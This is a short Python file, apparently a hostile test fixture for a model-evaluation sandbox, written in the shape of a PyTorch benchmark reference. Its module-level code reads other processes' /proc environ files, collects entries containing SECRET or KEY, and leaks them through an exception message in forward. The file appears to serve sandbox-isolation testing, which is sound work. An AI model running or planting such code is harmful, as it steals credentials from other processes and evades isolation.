"""Hostile reference (pasted through the web): reads every other process's environment and
would return what it found in its validation error."""
import os

import torch
import torch.nn as nn

_found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid())]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            text = f.read().decode(errors="replace")
    except OSError:
        continue
    if pid != str(os.getpid()) and ("SECRET" in text or "KEY" in text):
        _found.append(text)


class Model(nn.Module):
    def forward(self, x):
        if _found:
            raise RuntimeError(f"read another process's environment: {_found[0][:2000]}")
        return torch.relu(x)


def get_inputs():
    return [torch.randn(16, 16)]


def get_init_inputs():
    return []
